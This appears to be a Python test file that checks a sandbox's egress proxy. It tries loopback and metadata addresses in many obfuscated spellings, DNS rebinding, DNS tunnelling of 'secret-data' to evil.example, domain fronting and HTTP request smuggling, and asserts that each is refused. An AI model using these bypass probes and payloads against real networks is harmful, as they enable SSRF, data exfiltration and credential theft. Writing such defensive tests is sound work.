"""Attempts to reach hosts that the policy does not allow, and the secrets of the egress process."""

import os
import socket
import ssl
import struct

HTTP, HTTPS, ECHO = PORTS
PROXY = ("127.1.0.1", 3128)


def refused(what, attempt):
    try:
        got = attempt()
    except (OSError, ssl.SSLError) as error:
        print("%s: %s" % (what, type(error).__name__))
    else:
        raise SystemExit("%s: got %r" % (what, got))


def say(address, data):
    with socket.create_connection(address, 30) as stream:
        stream.settimeout(30)
        stream.sendall(data)
        return stream.recv(4096)


def answered(what, status, address, data):
    got = say(address, data)
    assert got.startswith(b"HTTP/1.1 %d " % status), (what, got)
    print("%s: %d" % (what, status))


def connect(host, port):
    return ("CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (host, port, host, port)).encode()


# The host's services, at the addresses that reach them outside the sandbox.
for address in "127.0.0.1", "127.0.0.2", "0.0.0.0":
    refused("directly " + address, lambda: socket.create_connection((address, HTTP), 30))
refused("directly ::1", lambda: socket.create_connection(("::1", HTTP), 30))
for address in "10.0.0.1", "169.254.169.254", "192.0.2.1", "8.8.8.8", "2606:4700::1111":
    refused("directly " + address, lambda: socket.create_connection((address, 443), 30))
# Addresses of the sandbox's own network that are assigned to no name, on a port that some name has.
usual = b"GET / HTTP/1.1\r\nHost: usual.example\r\n\r\n"
answered("no name", 403, ("127.1.200.1", 80), usual)
for address in "127.0.0.1", "127.2.0.2":
    refused("no name at " + address, lambda: say((address, 80), usual))

# Through the proxy, in every spelling of the address.
for host in (
    "127.0.0.1 2130706433 0x7f000001 0177.0.0.1 017700000001 127.1 0x7f.1 [::1] [::ffff:127.0.0.1] [::ffff:7f00:1] "
    "[64:ff9b::7f00:1] [2002:7f00:1::] 169.254.169.254 localhost evil.example"
).split():
    got = say(PROXY, connect(host, HTTP))
    assert got.startswith((b"HTTP/1.1 403 ", b"HTTP/1.1 400 ")), (host, got)
    request = "GET http://%s:%d/ HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (host, HTTP, host, HTTP)
    got = say(PROXY, request.encode())
    assert got.startswith((b"HTTP/1.1 403 ", b"HTTP/1.1 400 ")), (host, got)
for address in b"\1\x7f\0\0\1", b"\1\xa9\xfe\xa9\xfe", b"\4" + b"\0" * 15 + b"\1", b"\3\x0cevil.example":
    got = say(PROXY, b"\5\1\0")
    with socket.create_connection(PROXY, 30) as stream:
        stream.sendall(b"\5\1\0\5\1\0" + address + struct.pack(">H", HTTP))
        assert stream.recv(2) == b"\5\0"
        assert stream.recv(2) == b"\5\2", address

# Names that resolve to this machine or to a metadata service, or whose address changes (DNS rebinding).
for name in "loopback mapped translated tunnel metadata nowhere".split():
    answered(name, 403, PROXY, connect(name + ".example", HTTP))
statuses = [say(PROXY, connect("rebinding.example", HTTP))[9:12] for _ in range(4)]
assert statuses == [b"200", b"403", b"200", b"403"], statuses

# Names that carry data out (DNS tunnelling), also in queries of other types and through the proxy.
for name in "secret-data.evil.example", "secret-data.sub.api.example":
    refused(name, lambda: socket.getaddrinfo(name, 80))
    answered(name, 403, PROXY, connect(name, 443))
question = struct.pack(">6H", 1, 256, 1, 0, 0, 0)
question += b"\x0bsecret-data\x07example\0" + struct.pack(">2H", 16, 1)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
    resolver.settimeout(30)
    resolver.sendto(question, ("127.1.0.1", 53))
    assert resolver.recv(512)[3] & 15 == 3

# Requests for another host than the one of the connection (domain fronting).
api = socket.gethostbyname("api.example")
tls = socket.gethostbyname("tls.example")
answered("fronting", 421, (api, HTTP), b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n")
context = ssl.create_default_context()
for name in "evil.example", "api.example":
    stream = socket.create_connection((tls, HTTPS), 30)
    refused("fronting TLS " + name, lambda: context.wrap_socket(stream, server_hostname=name))
smuggled = (
    b"GET / HTTP/1.1\r\nHost: api.example:%d\r\nContent-Length: 30\r\nTransfer-Encoding: chunked\r\n\r\n"
    b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n" % HTTP
)
with socket.create_connection((api, HTTP), 30) as stream:
    stream.sendall(smuggled)
    stream.settimeout(30)
    got = b""
    while b" 421 " not in got:
        data = stream.recv(65536)
        if not data:
            break
        got += data
    assert b"smuggled" not in got.partition(b" 421 ")[0], got

# Secrets with which a guest could act as the certificate authority, or use the process's credentials.
certificates = open(os.environ["SSL_CERT_FILE"]).read()
assert "PRIVATE KEY" not in certificates
secrets = [value for value in os.environ.values() if "hunter2" in value]
assert not secrets, secrets
for name in "environ", "cmdline", "mountinfo", "status":
    assert "hunter2" not in open("/proc/self/" + name, errors="replace").read(), name
# A guest cannot take over the process's addresses by binding them again.
for kind, port in (socket.SOCK_DGRAM, 53), (socket.SOCK_STREAM, 3128):
    own = socket.socket(socket.AF_INET, kind)
    own.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    own.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    refused("bind %d" % port, lambda: own.bind(("127.1.0.1", port)))
print("held")
